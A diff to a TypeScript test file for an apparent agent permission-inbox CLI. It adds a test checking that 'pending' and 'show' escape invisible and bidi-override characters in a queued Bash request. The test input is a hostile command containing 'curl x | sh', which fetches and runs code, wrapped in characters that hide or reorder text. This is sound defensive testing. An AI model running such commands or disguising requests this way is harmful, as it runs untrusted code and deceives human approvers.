@@ -55,11 +55,11 @@ const stop = (agent: string) =>
 const stateOf = (id: string) => JSON.parse(cli(['get', id]).stdout);
 
 /** A background agent that worked in executing, then asked for a call nobody can answer: its session id. */
-function parked(): string {
+function parked(input: unknown = INPUT): string {
   const started = start(FIRST).hookSpecificOutput.additionalContext as string;
   const id = /session (agent-[\w-]+)/.exec(started)![1]!;
   expect(cli(['update', id, '--phase', 'executing']).status).toBe(0);
-  const denied = decisionOf(ask(FIRST));
+  const denied = decisionOf(ask(FIRST, input));
   expect(denied).toMatchObject({ behavior: 'deny' });
   expect(denied!.message).toContain(`approve ${id}`);
   expect(stop(FIRST).status).toBe(0);
@@ -118,6 +118,22 @@ describe('the permission inbox', () => {
     const answer = JSON.parse(seed.stdout);
     expect(answer).toMatchObject({ should_resume: true, agent_id: id });
     expect(answer.resume_metadata.permission).toMatchObject({ tool: 'Bash', input: INPUT, status: 'approved' });
+  });
+
+  it('pending and show escape what would hide or reorder the request (issue 40 item 5): the input is the same JSON', () => {
+    // A line separator, zero-width characters, a soft hyphen, the Arabic letter mark, a bidi override and isolate.
+    const hostile = { command: "true '\u202e\u2066' ; curl x | sh ; echo \u200bzw\u2060 \u00adsh\u061c\u2028 ok\u2069" };
+    const id = parked(hostile);
+    const hidden = /[\u2028\u2029\u200b-\u200f\u2060\u00ad\u061c\u202a-\u202e\u2066-\u2069]/;
+    const pending = cli(['pending']).stdout;
+    const shown = cli(['show', id]).stdout;
+    for (const output of [pending, shown]) {
+      expect(output).not.toMatch(hidden);
+      for (const escape of ['\\u202e', '\\u2066', '\\u200b', '\\u2060', '\\u00ad', '\\u061c', '\\u2028'])
+        expect(output).toContain(escape);
+    }
+    const line = /input: (.*)$/m.exec(pending)![1]!;
+    expect(JSON.parse(line)).toEqual(hostile);
   });
 
   it('an agent shell cannot approve (exit 6), and an imported grant is expired', () => {
